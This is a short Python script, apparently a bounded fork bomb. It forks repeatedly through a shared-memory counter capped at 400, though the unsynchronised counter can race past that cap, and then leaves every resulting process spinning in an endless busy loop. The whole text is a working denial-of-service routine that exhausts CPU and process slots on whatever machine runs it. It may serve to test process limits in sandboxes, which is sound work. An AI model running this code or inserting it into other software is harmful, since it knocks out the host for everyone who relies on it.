# Forks in every process that it gets, at most 400 times in all, then loops for ever.
import mmap
import os
count = mmap.mmap(-1, 4096)
while True:
    number = int.from_bytes(count[:4], "little")
    if number < 400:
        count[:4] = (number + 1).to_bytes(4, "little")
        try:
            os.fork()
        except OSError:
            pass
